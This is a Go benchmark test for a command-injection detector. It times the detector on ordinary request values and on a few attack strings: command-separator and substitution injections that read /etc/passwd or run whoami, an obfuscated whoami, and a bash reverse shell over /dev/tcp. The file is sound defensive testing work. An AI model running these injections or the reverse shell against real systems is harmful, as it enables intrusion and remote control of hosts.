package injection

import "testing"

// cmdiBenchValues are the values BenchmarkCmdiAt measures one by one: the benign shapes a
// request carries everywhere, whose cost must stay in tens of nanoseconds, and a few attacks.
var cmdiBenchValues = []struct{ name, v string }{
	{"number", "12.5"},
	{"word", "price"},
	{"sentence", "A plain sentence about the product, with punctuation; and some numbers 12.50."},
	{"apostrophe", "Item O'Brien 12"},
	{"name", "Siobhán O'Connor-Smith"},
	{"user_agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"},
	{"accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"},
	{"cookie", "sid=abc123; theme=dark; _ga=GA1.2.1234567890.1700000000"},
	{"url", "https://example.com/path/to/page?x=1&y=2#frag"},
	{"path", "/var/www/html/assets/app.min.js"},
	{"date", "2024-05-17T12:34:56Z"},
	{"jsonish", `{"id": 42, "tags": ["a", "b"], "ok": true}`},
	{"question", "What's the difference between 'and' and 'or'?"},
	{"attack_sep", "127.0.0.1; cat /etc/passwd"},
	{"attack_subst", "$(whoami)"},
	{"attack_obfuscated", "w'h'o'am'i"},
	{"attack_revshell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
	{"attack_cd", "cd /;cd etc;column passwd"},
}

// BenchmarkCmdiAt measures the command-injection verdict (as detectAll runs it on a value at the
// default sensitivity) on each value of cmdiBenchValues.
func BenchmarkCmdiAt(b *testing.B) {
	for _, tc := range cmdiBenchValues {
		b.Run(tc.name, func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				cmdiAt(tc.v, true, 2)
			}
		})
	}
}
